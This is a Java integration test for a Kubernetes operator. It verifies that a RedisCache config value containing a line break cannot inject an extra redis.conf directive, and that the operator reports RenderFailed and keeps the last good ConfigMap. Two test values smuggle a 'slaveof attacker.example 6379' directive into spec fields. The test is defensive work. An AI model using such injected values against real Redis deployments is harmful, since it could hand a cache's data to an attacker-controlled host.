package io.webserveroperator.faults;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.fabric8.kubernetes.api.model.ConfigMap;
import io.fabric8.kubernetes.api.model.Event;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.KubernetesClientException;
import io.fabric8.kubernetes.client.dsl.base.ResourceDefinitionContext;
import io.webserveroperator.dev.FolderApplier;
import io.webserveroperator.testing.ControlPlaneExtension;
import io.webserveroperator.testing.Project;
import io.webserveroperator.testing.Waits;
import io.webserveroperator.testing.WebServers;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Duration;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Values stay inside their line, on a real API server and with a kind other than WebServer: a
 * RedisCache whose ConfigMap embeds a redis.conf of one directive a line. A patch that puts a
 * directive into a config value, as {@code kubectl patch} would, never reaches the live ConfigMap:
 * the RedisCache reports Ready=False, reason RenderFailed, naming the field, with a Warning event,
 * and the last good ConfigMap stays. The CRD pattern docs/templates.md gives keeps such a value out
 * of a field at the door.
 */
class InlineValuesIT {

  static final Path FIXTURE =
      Project.file("src/test/resources/io/webserveroperator/faults/redis-cache");

  static final ResourceDefinitionContext REDIS_CACHE =
      new ResourceDefinitionContext.Builder()
          .withGroup("test.example.com")
          .withVersion("v1")
          .withKind("RedisCache")
          .withPlural("rediscaches")
          .withNamespaced(true)
          .build();

  static final String GOOD_CONF = "maxmemory 1gb\nport 6379\nmaxmemory-policy allkeys-lru\n";

  @RegisterExtension final ControlPlaneExtension cluster = new ControlPlaneExtension("inline");

  @Test
  void aValueThatWouldAddADirectiveNeverReachesTheConfigMapAndTheResourceSaysWhy()
      throws IOException {
    KubernetesClient admin = cluster.admin();
    String namespace = cluster.namespace();
    new FolderApplier(admin, Duration.ofSeconds(30)).apply(FIXTURE.resolve("crd"));
    Path templates = cluster.templates();
    Files.writeString(
        templates.resolve("watches.yaml"),
        Files.readString(FIXTURE.resolve("templates/watches.yaml")),
        StandardOpenOption.APPEND);
    Files.createDirectories(templates.resolve("rediscache"));
    Files.copy(
        FIXTURE.resolve("templates/rediscache/configmap.yaml.j2"),
        templates.resolve("rediscache/configmap.yaml.j2"));
    WebServers caches = new WebServers(admin, namespace, REDIS_CACHE);

    cluster.startOperator();
    caches.create(
        "cart", Map.of("memory", "1gb", "config", Map.of("maxmemory-policy", "allkeys-lru")));
    Waits.until(
        "the redis.conf of cart",
        () -> redisConf(admin, namespace),
        seen -> GOOD_CONF.equals(seen));
    Waits.untilAsserted(
        () ->
            assertThat(caches.condition("cart", "Ready"))
                .hasValueSatisfying(ready -> assertThat(ready).containsEntry("status", "True")));
    String goodVersion = configMap(admin, namespace).getMetadata().getResourceVersion();

    caches.patchSpec(
        "cart",
        Map.of(
            "config",
            Map.of("maxmemory-policy", "allkeys-lru\n    slaveof attacker.example 6379")));

    caches.awaitReadyFalse(
        "cart",
        "RenderFailed",
        "RedisCache "
            + namespace
            + "/cart: rediscache/configmap.yaml.j2:11: the value of"
            + " spec.config.maxmemory-policy, \"allkeys-lru\\n    slaveof attacker.example 6379\","
            + " has a line break (\\n) but is printed within a line of a block scalar",
        "pattern: '^[^\\n");
    Waits.until(
        "the Warning events of cart",
        () ->
            admin.v1().events().inNamespace(namespace).list().getItems().stream()
                .filter(e -> "cart".equals(e.getInvolvedObject().getName()))
                .filter(e -> "Warning".equals(e.getType()))
                .map(Event::getMessage)
                .toList(),
        seen -> seen.stream().anyMatch(m -> m.contains("spec.config.maxmemory-policy")));
    assertThat(redisConf(admin, namespace)).isEqualTo(GOOD_CONF);
    assertThat(configMap(admin, namespace).getMetadata().getResourceVersion())
        .isEqualTo(goodVersion);

    // A field with the CRD's pattern keeps the value out before any render.
    assertThatThrownBy(
            () -> caches.patchSpec("cart", Map.of("memory", "1gb\nslaveof attacker.example 6379")))
        .isInstanceOf(KubernetesClientException.class)
        .hasMessageContaining("spec.memory");
    assertThat(configMap(admin, namespace).getMetadata().getResourceVersion())
        .isEqualTo(goodVersion);
  }

  private static ConfigMap configMap(KubernetesClient admin, String namespace) {
    return admin.configMaps().inNamespace(namespace).withName("cart-redis").get();
  }

  private static String redisConf(KubernetesClient admin, String namespace) {
    ConfigMap configMap = configMap(admin, namespace);
    return configMap == null ? null : configMap.getData().get("redis.conf");
  }
}
